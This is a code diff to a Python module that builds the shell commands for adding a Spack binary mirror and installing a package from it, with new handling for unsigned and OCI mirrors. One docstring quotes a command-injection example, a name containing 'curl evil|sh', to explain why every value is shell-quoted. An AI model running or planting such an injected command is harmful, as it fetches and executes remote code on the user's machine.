@@ -26,7 +26,9 @@ __all__ = [
     "Install",
     "SpecPage",
     "install_commands",
+    "is_oci",
     "largest_dependencies",
+    "mirror_commands",
     "spec_page",
     "spec_page_from",
 ]
@@ -108,18 +110,34 @@ def _share(size: int, whole: int) -> str:
     return "<1%" if 100 * size < whole else f"{(200 * size + whole) // (2 * whole)}%"
 
 
-def install_commands(tag: str, stack: str, url: str, dag_hash: str) -> str:
+def install_commands(tag: str, stack: str, url: str, dag_hash: str, *, signed: bool = True) -> str:
     """The shell commands that install ``dag_hash`` from the mirror ``url``.
 
     Users paste them into a shell, and names and URLs come from mirrors and config
     files (a remote ``tags_from`` file among them): every value is shell-quoted, so a
-    name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are."""
+    name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are.
+    An unsigned mirror (an OCI registry, or one whose specs ``cachedex verify`` found
+    unsigned) is added with ``--unsigned`` (see :func:`mirror_commands`)."""
     mirror = f"{tag}-{stack}" if stack != ROOT_STACK else tag
-    return (
-        f"spack mirror add {shlex.quote(mirror)} {shlex.quote(url)}\n"
-        "spack buildcache keys --install --trust\n"
-        f"spack install --cache-only {shlex.quote('/' + dag_hash)}"
-    )
+    return f"{mirror_commands(mirror, url, signed=signed)}\nspack install --cache-only {shlex.quote('/' + dag_hash)}"
+
+
+def mirror_commands(name: str, url: str, *, signed: bool = True) -> str:
+    """The commands that add the mirror ``url`` as ``name`` and trust its keys.
+
+    Spack requires a signature of every binary from a mirror unless it was added with
+    ``--unsigned``: ``spack install`` of an unsigned one stops with "To install unsigned
+    packages, use the --no-check-signature option, or configure the mirror with signed:
+    false". OCI registries are always unsigned (``spack buildcache push`` does not sign
+    for them) and publish no keys, so theirs is ``--unsigned`` and no ``keys`` step."""
+    if not signed or is_oci(url):
+        return f"spack mirror add --unsigned {shlex.quote(name)} {shlex.quote(url)}"
+    return f"spack mirror add {shlex.quote(name)} {shlex.quote(url)}\nspack buildcache keys --install --trust"
+
+
+def is_oci(url: str) -> bool:
+    """Whether ``url`` is an OCI registry's (``oci://``, or ``oci+http://`` without TLS)."""
+    return url.startswith(("oci://", "oci+http://"))
 
 
 def spec_page(catalog: Catalog, dag_hash: str) -> SpecPage:
@@ -164,6 +182,9 @@ def spec_page_from(
     # The catalog's summary of one hash leaves its stacks out (they are a tag's): its
     # answer says which stacks list it, as its tags, not "none".
     stacks = tuple(sorted({h.stack for h in holders if h.listed}, key=stack_order))
+    # A mirror whose latest verification found this spec unsigned: Spack refuses to
+    # install it from a mirror added without --unsigned.
+    unsigned = {(v.tag, v.stack) for v in verifications if v.signature == "unsigned"}
     return SpecPage(
         spec=msgspec.structs.replace(spec, stacks=stacks) if stacks != tuple(spec.stacks) else spec,
         holders=tuple(holders),
@@ -173,7 +194,13 @@ def spec_page_from(
         closure_size=closure_size,
         closure_unknown=len(binaries) - len(known),
         install=tuple(
-            Install(h.tag, h.stack, install_commands(h.tag, h.stack, h.url, spec.hash)) for h in holders if h.listed
+            Install(
+                h.tag,
+                h.stack,
+                install_commands(h.tag, h.stack, h.url, spec.hash, signed=(h.tag, h.stack) not in unsigned),
+            )
+            for h in holders
+            if h.listed
         ),
         node=node,
         closure_binaries=len(binaries),
